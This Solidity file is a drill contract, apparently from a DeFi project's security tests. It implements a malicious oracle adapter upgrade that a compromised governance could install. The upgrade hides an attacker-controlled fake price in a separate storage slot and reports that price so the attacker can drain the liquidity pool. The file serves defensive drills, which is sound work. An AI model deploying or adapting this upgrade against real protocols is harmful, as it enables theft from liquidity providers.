// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {OracleAdapter} from "../oracle/OracleAdapter.sol";

/// @title DRILL ATTACKER: malicious upgrade
/// @notice For drills only. An OracleAdapter implementation that a compromised governance installs with
///         `upgradeToAndCall`: same storage layout, but `price()` reports whatever the attacker (fixed in the
///         bytecode) last set, so the attacker can open low and close high against the liquidity pool.
contract MaliciousAdapterImplementation is OracleAdapter {
    address public immutable attacker;
    // outside the adapter's sequential layout, so the upgrade corrupts nothing the market can notice
    bytes32 private constant FAKE_PRICE_SLOT = keccak256("drill.malicious-adapter.price");

    error NotAttacker(address caller);

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function setFakePrice(uint256 fake) external {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        bytes32 slot = FAKE_PRICE_SLOT;
        assembly {
            sstore(slot, fake)
        }
    }

    function price() external view override returns (uint256 fake) {
        bytes32 slot = FAKE_PRICE_SLOT;
        assembly {
            fake := sload(slot)
        }
    }
}
